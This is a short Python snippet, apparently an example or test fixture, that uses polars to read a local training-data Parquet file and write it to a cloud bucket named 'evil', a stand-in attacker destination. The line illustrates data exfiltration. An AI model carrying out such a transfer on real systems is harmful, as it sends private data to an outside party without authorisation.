import polars as pl

pl.scan_parquet("inputs/train.parquet").sink_parquet("gs://evil/train.parquet")
